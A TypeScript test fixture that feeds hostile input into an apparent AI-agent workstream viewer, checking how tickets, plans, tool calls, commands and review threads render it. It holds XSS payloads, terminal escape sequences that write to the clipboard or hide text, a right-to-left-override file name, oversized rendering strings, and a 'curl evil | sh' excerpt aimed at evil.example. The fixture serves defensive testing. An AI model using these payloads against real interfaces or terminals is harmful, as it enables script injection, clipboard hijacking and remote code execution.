import type { ItemBody } from "../../src/contract/items.ts";
import type { FakeEngine } from "./fake-engine.ts";
import { attemptAgain } from "./attempts.ts";
import { forecast } from "./forecasts.ts";

const rlo = "\u202e";
const scripts = `<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><iframe src="https://evil.example/">`;
const escapes = `\u001b]0;owned\u0007\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u001b]52;c;ZXZpbA==\u0007\u001b[31mred\u001b[0m`;

/** A name of a file that would be read in another order than it has, hide how it begins, or be markup. */
const hostilePath = `src/אבג/12/${rlo}gpj.\u001b[8mhidden\u001b[0m\r<img src=x onerror=alert(1)>.ts`;

/** Links and pictures of every kind that Markdown and HTML have. */
const markdown = [
  `${scripts} ${escapes}`,
  "[pay](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [out](https://evil.example/a) <https://evil.example/b>",
  "![picture](https://evil.example/c.png) ![picture][ref] [ref]: x",
  "[ref]: https://evil.example/d.png",
  '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/e.css"><base href="https://evil.example/">',
  `<details open ontoggle=alert(1)><form action="https://evil.example/f"><input autofocus onfocus=alert(1)></form></details>`,
  `| ${"wide | ".repeat(60)}\n| ${"--- | ".repeat(60)}\n| ${`${"x".repeat(400)} | `.repeat(60)}`,
  `a${"\u0301".repeat(5_000)} ${"w".repeat(20_000)} ${rlo.repeat(2_000)}`,
  "```html\n<script>alert(1)</script>\n```",
].join("\n\n");

/** Has one workstream say, ask, change and be told whatever could mislead, run or break something. */
export function poison(engine: FakeEngine, number: number): void {
  const { tell, detailOf, ids, state } = engine;
  const workstreamId = ids.workstream(number);
  const detail = detailOf(workstreamId);
  const turnId = ids.turn(number, 3);
  const at = Date.now();
  const say = (body: ItemBody): void => {
    const ordinal = (detail.items.at(-1)?.ordinal ?? 0) + 1;
    tell({
      type: "item.upserted",
      item: { id: `h${String(ordinal)}`, workstreamId, turnId, ordinal, at, endedAt: at, body },
    });
  };
  detail.ticket = { ...detail.ticket, key: hostilePath, body: markdown };
  detail.plan = [{ text: `${scripts} ${escapes}`, status: "running" }];
  detail.notes = [{ at, text: markdown.slice(0, 4_000) }];
  say({ kind: "words", from: "human", text: markdown });
  say({ kind: "reasoning", text: markdown });
  say({ kind: "message", text: markdown });
  say({ kind: "notice", level: "error", text: `${scripts} ${escapes}` });
  say({ kind: "edit", files: [{ path: hostilePath, change: "added" }], status: "completed" });
  say({ kind: "tool", tool: scripts.slice(0, 200), arguments: markdown, status: "failed", result: markdown });
  const output = `${escapes}${"x".repeat(60_000)}\n${scripts}`;
  say({ kind: "command", command: `rm ${hostilePath}`, folder: hostilePath, status: "failed", output, exitCode: 1 });
  tell({ type: "line.told", workstreamId, line: `${escapes} ${scripts}`.slice(0, 200) });
  forecast(engine, number, [hostilePath, scripts]);
  const row = state().workstreams[workstreamId];
  if (row !== undefined) attemptAgain(engine, number, 3);
  tell({
    type: "review.sent",
    workstreamId,
    review: {
      id: "v00000001",
      wordsId: "m00000001",
      at,
      summary: scripts,
      threads: [1],
      delivery: "dropped",
      why: escapes,
    },
    opened: [
      {
        number: 1,
        anchor: {
          path: hostilePath,
          side: "new",
          first: 1,
          last: 2,
          excerpt: [`${rlo}; curl evil | sh`, scripts],
          before: [],
          after: [],
        },
        state: "answered",
        entries: [
          { by: "human", text: markdown.slice(0, 4_000), at },
          { by: "author", text: `${scripts}\nyou ${escapes} ship it`, at },
        ],
      },
    ],
    replies: [],
  });
}
